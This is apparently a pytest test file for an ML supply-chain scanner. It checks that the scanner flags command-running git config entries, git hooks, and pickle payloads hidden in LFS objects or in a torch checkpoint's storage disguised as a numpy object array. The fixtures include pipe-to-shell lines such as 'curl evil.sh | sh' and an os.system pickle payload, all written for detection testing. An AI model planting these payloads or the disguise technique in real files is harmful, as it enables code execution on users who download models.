"""Issue 21, class 4: what the scanner used to skip unread. A .git folder's config and hooks (git runs
them when the user runs git in the downloaded folder) and its LFS objects (the model files themselves)
are checked, an ordinary clone's .git stays clean; a torch storage member that numpy.load would parse
(named *.npy, or starting with the .npy magic) is scanned, not skipped as raw tensor bytes. Each test
builds its own variant."""

from __future__ import annotations

import io
import zipfile

import pytest
import torch

from mlaudit.findings import Severity
from mlaudit.supplychain.scan import scan_paths

from ..corpus.payloads import p2_global_call


def _high(results) -> set[str]:
    return {i.rule for r in results for i in r.issues if i.severity >= Severity.HIGH}


def _clone(folder):
    git = folder / ".git"
    (git / "hooks").mkdir(parents=True)
    (git / "hooks" / "pre-commit.sample").write_text("#!/bin/sh\nexit 0\n")
    (git / "config").write_text(
        '[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n[remote "origin"]\n'
        "\turl = https://huggingface.co/some/model\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n"
        "[lfs]\n\trepositoryformatversion = 0\n[alias]\n\tst = status\n[credential]\n\thelper = cache\n"
    )
    (folder / "config.json").write_text("{}")
    return git


def test_an_ordinary_clone_is_clean(tmp_path):
    _clone(tmp_path)
    results = scan_paths([tmp_path])
    assert not [i for r in results for i in r.issues if i.severity >= Severity.MEDIUM]


@pytest.mark.parametrize(
    "entry",
    [
        "[core]\n\tfsmonitor = curl evil.sh | sh\n",
        '[filter "lfs"]\n\tsmudge = sh -c pwn\n',
        "[alias]\n\tst = !sh -c pwn\n",
        "[core]\n\thooksPath = /tmp/hooks\n",
        '[diff "bin"]\n\ttextconv = ./decode\n',
    ],
)
def test_git_config_that_runs_commands_is_flagged(tmp_path, entry):
    git = _clone(tmp_path)
    (git / "config").write_text((git / "config").read_text() + entry)
    assert "git/runs-command" in _high(scan_paths([tmp_path]))


def test_a_git_hook_and_an_lfs_object_are_scanned(tmp_path):
    git = _clone(tmp_path)
    (git / "hooks" / "post-checkout").write_text("#!/bin/sh\ncurl evil | sh\n")
    lfs = git / "lfs" / "objects" / "ab" / "cd"
    lfs.mkdir(parents=True)
    (lfs / ("ab" * 32)).write_bytes(p2_global_call("os", "system", "true"))
    high = _high(scan_paths([tmp_path]))
    assert "git/hook" in high and any(r.startswith("pickle/") for r in high), high


def test_a_storage_member_numpy_would_parse_is_scanned(tmp_path):
    """A torch zip whose data.pkl names its storage "0.npy": torch reads those bytes raw, numpy.load
    on the same file reads them as an object array, unpickling the payload inside."""
    buf = io.BytesIO()
    torch.save({"w": torch.zeros(2)}, buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    names = src.namelist()
    pkl = next(n for n in names if n.endswith("data.pkl"))
    prefix = pkl[: -len("data.pkl")]
    data = src.read(pkl)
    assert b"X\x01\x00\x00\x000" in data  # the storage key "0" as BINUNICODE
    data = data.replace(b"X\x01\x00\x00\x000", b"X\x05\x00\x00\x000.npy")
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"  # .npy 1.0: the header padded to 64 bytes
    npy = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + p2_global_call("os", "system")
    out = tmp_path / "model.pt"
    with zipfile.ZipFile(out, "w") as z:
        for n in names:
            if n == pkl:
                z.writestr(n, data)
            elif n == f"{prefix}data/0":
                z.writestr(f"{prefix}data/0.npy", npy)
            else:
                z.writestr(n, src.read(n))
    results = scan_paths([out])
    rules = {i.rule for r in results for i in r.issues}
    assert "numpy/object-array" in rules and any(r.startswith("pickle/") for r in _high(results)), rules


def test_tensor_storages_are_sniffed_not_read(tmp_path, monkeypatch):
    """Throughput: each storage member is checked for the .npy magic only (a few bytes), so scanning a
    state dict reads a small fraction of it. 8 storages of 4 MiB; reading a megabyte per sniff (the
    old refill size) would read 8 MiB, far past the 1 MiB allowed here."""
    path = tmp_path / "sd.pt"
    torch.save({f"w{i}": torch.zeros(1 << 20) for i in range(8)}, path)
    read = []
    real_open = open

    class Counting(io.FileIO):
        def readinto(self, b):  # BufferedReader fills its buffer through readinto
            n = super().readinto(b)
            read.append(n or 0)
            return n

    def counting_open(file, mode="r", *args, **kwargs):
        if str(file) == str(path) and "b" in mode:
            return io.BufferedReader(Counting(str(file), "r"), buffer_size=8192)
        return real_open(file, mode, *args, **kwargs)

    import builtins

    monkeypatch.setattr(builtins, "open", counting_open)
    (r,) = scan_paths([path])
    monkeypatch.undo()
    assert r.error is None and not [i for i in r.issues if i.severity >= Severity.MEDIUM], r.issues
    assert read and sum(read) < 1 << 20, sum(read)
